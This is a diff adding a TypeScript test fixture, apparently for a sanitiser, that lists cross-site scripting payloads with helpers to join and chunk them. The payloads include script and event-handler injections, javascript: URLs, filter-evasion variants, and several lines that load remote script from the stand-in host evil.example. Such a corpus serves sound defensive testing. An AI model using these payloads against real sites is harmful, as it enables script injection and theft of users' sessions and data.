@@ -1,0 +1,96 @@
+/**
+ * What strangers write to have their code run by who reads it. Each sets `xss`, asks with a dialog, or leaves an element or
+ * attribute behind where text is read as markup. At most 100 characters each, as names are.
+ */
+export const payloads: readonly string[] = [
+  '<script>xss=1</script>',
+  '<SCRIPT>xss=1</SCRIPT>',
+  '<script src=//evil.example/x.js></script>',
+  '<script src="data:text/javascript,xss=1"></script>',
+  '<script type=module>import "//evil.example/x.js"</script>',
+  '<scr<script>ipt>xss=1</scr</script>ipt>',
+  '</script><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</pre></code><script>alert(1)</script>',
+  '<img src=x onerror=xss=1>',
+  '<img src=x onerror="alert(1)">',
+  '"><img src=x onerror=alert(1)>',
+  "'><img src=x onerror=alert(1)>",
+  '<img/src/onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img srcset="x 1x" onerror=alert(1)>',
+  '<image src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
+  '<iframe onload=alert(1)></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">press</a>',
+  '<a href="JaVaScRiPt:alert(1)">press</a>',
+  '<a href="&#106;avascript:alert(1)">press</a>',
+  '<a href="java\tscript:alert(1)">press</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">press</a>',
+  '<a href="vbscript:msgbox(1)">press</a>',
+  '<form action="javascript:alert(1)"><button>press</button></form>',
+  '<button formaction="javascript:alert(1)">press</button>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)></select>',
+  '<textarea autofocus onfocus=alert(1)></textarea>',
+  '<details open ontoggle=alert(1)>',
+  '<dialog open onclose=alert(1)></dialog>',
+  '<video src=x onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)></audio>',
+  '<video><source onerror=alert(1)></video>',
+  '<body onload=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<style>@import "//evil.example/xss.css"</style>',
+  '<style onload=alert(1)></style>',
+  '<link rel=stylesheet href="//evil.example/xss.css">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="//evil.example/">',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>',
+  '<div onpointerenter="alert(1)">x</div>',
+  '<p style="animation:x" onanimationstart=alert(1)>x</p>',
+  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<xss-mark id=x tabindex=1 onfocus=alert(1)></xss-mark>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '\\u003cimg src=x onerror=alert(1)\\u003e',
+  '[press](javascript:alert(1))',
+  '![x](x"onerror="alert(1))',
+  'javascript:alert(1)//',
+  'javascript:/*--></title></style></script><svg onload=alert(1)>',
+  '" onmouseover="alert(1)" x="',
+  "' autofocus onfocus='alert(1)",
+  '`onmouseover=alert(1)',
+  '{{constructor.constructor("alert(1)")()}}',
+  '$' + '{alert(1)}',
+  '__proto__',
+  '\u202e>tpircs/<1=ssx>tpircs<',
+];
+
+/** All of them in one text, a line each. */
+export const corpus = payloads.join('\n');
+
+/** The corpus in parts of at most `chars` characters. */
+export function corpusIn(chars: number): string[] {
+  const parts: string[] = [];
+  for (const payload of payloads) {
+    const last = parts.at(-1);
+    if (last !== undefined && last.length + payload.length < chars) parts[parts.length - 1] = `${last}\n${payload}`;
+    else parts.push(payload);
+  }
+  return parts;
+}
